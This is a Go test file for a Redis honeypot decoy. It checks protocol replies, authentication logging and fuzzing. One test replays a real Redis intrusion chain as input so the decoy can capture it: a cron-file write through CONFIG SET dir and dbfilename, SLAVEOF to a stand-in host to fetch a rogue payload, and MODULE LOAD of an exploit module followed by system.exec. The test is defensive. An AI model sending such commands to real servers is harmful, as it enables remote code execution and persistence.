package redis

import (
	"bufio"
	"bytes"
	"io"
	"net"
	"os/exec"
	"strconv"
	"strings"
	"testing"

	"github.com/lapwing-defence/lapwing/internal/decoy"
	"github.com/lapwing-defence/lapwing/internal/decoy/access"
	"github.com/lapwing-defence/lapwing/internal/decoy/decoytest"
	"github.com/lapwing-defence/lapwing/internal/decoy/record"
	"github.com/lapwing-defence/lapwing/internal/event"
	"github.com/lapwing-defence/lapwing/internal/persona"
	"github.com/lapwing-defence/lapwing/internal/sharedtest"
)

func target(password bool) decoytest.Target {
	return decoytest.Target{Name: "redis", Persona: "debian-server", LogType: LogConnection, New: func(_ testing.TB, _ *persona.Persona, door *access.Door) decoy.Decoy {
		return New(Config{Door: door, Password: password, Seed: 11})
	}}
}

func TestSuite(t *testing.T) { decoytest.Run(t, target(false)) }

// talk sends and gives all that comes back before the decoy hangs up.
func talk(t *testing.T, b *decoytest.Bench, text string) string {
	t.Helper()
	c := b.Dial(t)
	io.WriteString(c, text)
	c.(*net.TCPConn).CloseWrite()
	got, err := io.ReadAll(c)
	if err != nil {
		t.Fatal(err)
	}
	return string(got)
}

// TestAnswers holds what Debian 12's redis-server 7.0.15 says to these bytes.
func TestAnswers(t *testing.T) {
	b := target(false).Start(t, decoytest.Options{})
	for in, want := range map[string]string{
		"FOO bar baz\r\n":                       "-ERR unknown command 'FOO', with args beginning with: 'bar' 'baz' \r\n",
		"[[,[[\r\n":                             "-ERR unknown command '[[,[[', with args beginning with: \r\n",
		"GET\r\n":                               "-ERR wrong number of arguments for 'get' command\r\n",
		"AUTH x\r\n":                            "-ERR AUTH <password> called without any password configured for the default user. Are you sure your configuration is correct?\r\n",
		"AUTH a b\r\n":                          "-WRONGPASS invalid username-password pair or user is disabled.\r\n",
		"\"abc\r\n":                             "-ERR Protocol error: unbalanced quotes in request\r\n",
		"*2\r\n:3\r\n":                          "-ERR Protocol error: expected '$', got ':'\r\n",
		"*1\r\n$99999999999\r\n":                "-ERR Protocol error: invalid bulk length\r\n",
		"*1000000000\r\n":                       "-ERR Protocol error: invalid multibulk length\r\n",
		"HELLO 9\r\n":                           "-NOPROTO unsupported protocol version\r\n",
		"CONFIG FOO\r\n":                        "-ERR unknown subcommand 'FOO'. Try CONFIG HELP.\r\n",
		"CONFIG SET foo bar\r\n":                "-ERR Unknown option or number of arguments for CONFIG SET - 'foo'\r\n",
		"CONFIG SET dbfilename a/b\r\n":         "-ERR CONFIG SET failed (possibly related to argument 'dbfilename') - dbfilename can't be a path, just a filename\r\n",
		"CONFIG SET dir /nosuch\r\n":            "-ERR CONFIG SET failed (possibly related to argument 'dir') - No such file or directory\r\n",
		"SLAVEOF a b\r\n":                       "-ERR Invalid master port\r\n",
		"system.exec id\r\n":                    "-ERR unknown command 'system.exec', with args beginning with: 'id' \r\n",
		"SELECT 99\r\n":                         "-ERR DB index is out of range\r\n",
		"EVAL \"return 1\" 0\r\n":               ":1\r\n",
		"SET a b EX 0\r\n":                      "-ERR invalid expire time in 'set' command\r\n",
		"SET a b foo\r\n":                       "-ERR syntax error\r\n",
		"SET n 5\r\nINCR n\r\nLPUSH n x\r\n":    "+OK\r\n:6\r\n-WRONGTYPE Operation against a key holding the wrong kind of value\r\n",
		"CLUSTER INFO\r\n":                      "-ERR This instance has cluster support disabled\r\n",
		"SHUTDOWN FOO\r\n":                      "-ERR syntax error\r\n",
		"ACL WHOAMI\r\nCOMMAND COUNT\r\n":       "$7\r\ndefault\r\n:240\r\n",
		"MULTI\r\nSET q 1\r\nGET q\r\nEXEC\r\n": "+OK\r\n+QUEUED\r\n+QUEUED\r\n*2\r\n+OK\r\n$1\r\n1\r\n",
		"*2\r\n$4\r\nECHO\r\n$3\r\na\r\n\r\n":   "$3\r\na\r\n\r\n",
		"LRANGE nosuch 0 -1\r\n":                "*0\r\n",
		"RPUSH l a b c\r\nLRANGE l -2 -1\r\n":   ":3\r\n*2\r\n$1\r\nb\r\n$1\r\nc\r\n",
		"HSET h f v\r\nHGETALL h\r\nTYPE h\r\n": ":1\r\n*2\r\n$1\r\nf\r\n$1\r\nv\r\n+hash\r\n",
		"GET / HTTP/1.1\r\nHost: x\r\n\r\n":     "",
		"QUIT\r\nPING\r\n":                      "+OK\r\n",
	} {
		if got := talk(t, b, in); got != want {
			t.Errorf("%q\n got %q\nwant %q", in, got, want)
		}
	}
}

func TestAPasswordIsAskedFor(t *testing.T) {
	b := target(true).Start(t, decoytest.Options{Policy: access.Policy{Accept: []access.Credential{{User: "default", Password: "s3cret"}}}})
	got := talk(t, b, "GET a\r\nAUTH wrong\r\nHELLO 3\r\nAUTH s3cret\r\nPING\r\n")
	for _, want := range []string{"-NOAUTH Authentication required.", "-WRONGPASS", "-NOAUTH HELLO", "+OK\r\n+PONG\r\n"} {
		if !strings.Contains(got, want) {
			t.Errorf("%q is not in %q", want, got)
		}
	}
	if got := talk(t, b, "*11\r\n"); got != "-ERR Protocol error: unauthenticated multibulk length\r\n" {
		t.Errorf("many arguments before a password: %q", got)
	}
	logins := b.Wait(t, event.ActionLogin, 2)
	for i, want := range []string{"failure", "success"} {
		if logins[i].Outcome != want || logins[i].User != "default" {
			t.Errorf("login %d: %+v", i, logins[i])
		}
		if _, there := logins[i].Get(record.PasswordField); !there {
			t.Error("a login without the password for the hub to hash")
		}
	}
	for _, e := range b.Rec.Events(event.ActionQueryExecuted) {
		if v, _ := e.Get(record.QueryField); strings.Contains(v.Text(), "s3cret") || strings.Contains(v.Text(), "wrong") {
			t.Errorf("a password stands in %q", v.Text())
		}
	}
}

// TestWhatIntrudersDo: the ways in that captures show are answered, recorded, and lead nowhere.
func TestWhatIntrudersDo(t *testing.T) {
	b := target(false).Start(t, decoytest.Options{})
	cron := "\n\n*/5 * * * * root MARKER-cron\n\n"
	got := talk(t, b, "CONFIG SET dir /etc/cron.d\r\nCONFIG SET dbfilename zzh\r\nFLUSHALL\r\n*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$"+strconv.Itoa(len(cron))+"\r\n"+cron+"\r\nSAVE\r\nSLAVEOF 198.51.100.7 8886\r\nROLE\r\nMODULE LOAD /tmp/exp.so\r\nsystem.exec id\r\n")
	if !strings.HasPrefix(got, "+OK\r\n+OK\r\n+OK\r\n+OK\r\n+OK\r\n+OK\r\n*5\r\n$5\r\nslave") || !strings.Contains(got, "-ERR Error loading the extension") {
		t.Errorf("answers %q", got)
	}
	file := b.Wait(t, event.ActionFileCaptured, 1)[0]
	if file.Path != "/etc/cron.d/zzh" || !bytes.Contains(b.Rec.File(file.SHA256), []byte(cron)) {
		t.Errorf("captured %s: %q", file.Path, b.Rec.File(file.SHA256))
	}
	if e := b.Wait(t, event.ActionDownloadRequested, 1)[0]; e.URL != "redis://198.51.100.7:8886" {
		t.Errorf("asked for %q", e.URL)
	}
	b.Wait(t, event.ActionSessionEnded, 1)
	if n := len(b.Rec.Events(event.ActionQueryExecuted)); n != 9 {
		t.Errorf("%d commands were recorded", n)
	}
}

// TestRedisCLI runs the real client.
func TestRedisCLI(t *testing.T) {
	cli := sharedtest.Program(t, "redis-cli")
	b := target(true).Start(t, decoytest.Options{Policy: access.Policy{Accept: []access.Credential{{User: "svc", Password: "pw"}}}})
	host, port, _ := net.SplitHostPort(b.Addr)
	run := func(args ...string) string {
		out, err := exec.CommandContext(t.Context(), cli, append([]string{"-h", host, "-p", port, "--no-auth-warning", "--user", "svc", "--pass", "pw"}, args...)...).CombinedOutput()
		if err != nil {
			t.Fatalf("%v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	if got := run("-3", "HGETALL", "settings"); !strings.Contains(got, "currency EUR") {
		t.Errorf("hash %q", got)
	}
	if got := run("INFO", "server"); !strings.Contains(got, "redis_version:7.0.15") {
		t.Errorf("info %q", got)
	}
	if got := run("--scan", "--pattern", "session:*"); strings.Count(got, "session:") < 12 {
		t.Errorf("scan %q", got)
	}
	if got := run("SET", "k", "v"); got != "OK\n" {
		t.Errorf("set %q", got)
	}
	if got := run("GET", "k"); got != "v\n" { // what a source changed is there when it comes again
		t.Errorf("get %q", got)
	}
}

func FuzzRequests(f *testing.F) {
	for _, s := range []string{"PING\r\n", "*1\r\n$4\r\nPING\r\n", "\"a\\x41\" 'b'\r\n", "*2\r\n$-1\r\n", "*1\r\n$8388608\r\n"} {
		f.Add([]byte(s), true)
	}
	f.Fuzz(func(t *testing.T, data []byte, fresh bool) {
		in := newReader(bytes.NewReader(data), func() bool { return fresh })
		total := 0
		for range 1000 {
			args, err := in.next()
			if err != nil {
				break
			}
			for _, a := range args {
				total += len(a)
			}
		}
		if total > len(data) {
			t.Errorf("%d bytes of arguments out of %d", total, len(data))
		}
	})
}

// FuzzCommands: whatever commands come in whatever order, each has one well-formed reply.
func FuzzCommands(f *testing.F) {
	f.Add("SET a b\nGET a\nLPUSH l 1 2\nLPOP l 9\nCONFIG GET *\nINFO all\nSCAN 0 COUNT 3\nZADD z 1 a\nZRANGE z 0 -1 WITHSCORES")
	for name, c := range commands() {
		f.Add(name + strings.Repeat(" 1", max(c.arity, -c.arity)-1))
	}
	f.Fuzz(func(t *testing.T, script string) {
		v := fuzzVisit(t)
		for line := range strings.SplitSeq(script, "\n") {
			args, err := splitInline([]byte(line))
			if err != nil || len(args) == 0 {
				continue
			}
			v.out.b = v.out.b[:0]
			v.request(args)
			if v.quit || v.out.over {
				return
			}
			if left := reply(t, bufio.NewReader(bytes.NewReader(v.out.b))); left != 0 && !strings.HasSuffix(lower(args[0]), "subscribe") {
				t.Fatalf("%q: %d bytes after the reply %q", line, left, v.out.b)
			}
		}
	})
}
